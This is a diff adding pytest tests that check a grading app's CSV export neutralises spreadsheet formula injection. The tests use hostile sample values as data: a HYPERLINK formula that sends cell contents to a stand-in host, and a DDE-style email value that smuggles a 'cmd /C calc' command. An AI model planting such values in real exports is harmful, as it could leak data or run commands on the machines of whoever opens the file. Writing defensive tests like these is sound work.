@@ -10,8 +10,9 @@ from typer.testing import CliRunner
 
 from app.cli import main
 from app.db import make_engine, make_sessionmaker, upgrade
-from app.export import grades_csv, header
+from app.export import grades_csv, header, spreadsheet_safe
 from app.instructor.class_progress import class_table
+from app.models import Role, User
 from app.settings import get_settings
 from tests.instructor.classroom import build_class
 from tests.instructor.second_course import SECOND_COURSE
@@ -121,3 +122,44 @@ def test_steps_whose_points_wait_for_a_re_run_are_counted(session, second_course
     rows = list(csv.DictReader(io.StringIO(grades_csv(class_table(session, second_course)))))
     bo = next(r for r in rows if r["email"] == "bo@example.com")
     assert (bo["steps_passed"], bo["steps_to_rerun"], bo["size-the-group"]) == ("1", "1", "10")
+
+
+@pytest.mark.parametrize("prefix", ["=", "+", "-", "@", "\t", "\r"])
+def test_every_csv_cell_starting_with_a_formula_prefix_is_quoted(prefix):
+    formula = f"{prefix}HYPERLINK(\"http://x.example/\"&A1)"
+    assert spreadsheet_safe(formula) == "'" + formula
+    assert spreadsheet_safe("ana@example.com") == "ana@example.com"
+    assert spreadsheet_safe(12) == 12
+
+
+@pytest.mark.parametrize("prefix", ["=", "+", "-", "@", "\t", "\r"])
+def test_an_email_that_is_a_formula_is_exported_as_text(session, second_course, prefix):
+    """An address stored before emails were validated (or a valid one like ``=1+1@x.org``)."""
+    email = f"{prefix}2+5+cmd|' /C calc'!A0@example.com"
+    session.add(User(email=email, role=Role.learner))
+    session.flush()
+    rows = list(csv.DictReader(io.StringIO(grades_csv(class_table(session, second_course)))))
+    assert [row["email"] for row in rows] == ["'" + email]
+    cells = [cell for row in rows for cell in row.values()]
+    assert not [cell for cell in cells if cell.startswith(("=", "+", "-", "@", "\t", "\r"))]
+
+
+def test_designlab_export_quotes_a_formula(env_db):
+    with make_sessionmaker(make_engine(env_db))() as session:
+        session.add(User(email="=1+1@example.com", role=Role.learner))
+        session.commit()
+    result = runner.invoke(main, ["export"])
+    assert result.exit_code == 0, result.output
+    assert result.stdout.splitlines()[1].split(",")[1] == "'=1+1@example.com"
+
+
+def test_the_grades_download_quotes_a_formula(make_client, make_settings):
+    from tests.instructor.signing_in import add_user, sign_in
+
+    client = make_client(steps_dir=SECOND_COURSE)
+    settings = make_settings()
+    add_user(settings, "ina@example.com", Role.instructor)
+    add_user(settings, "-2+3@example.com", Role.learner)
+    sign_in(client, "ina@example.com")
+    rows = list(csv.DictReader(io.StringIO(client.get("/instructor/grades.csv").text)))
+    assert "'-2+3@example.com" in [row["email"] for row in rows]
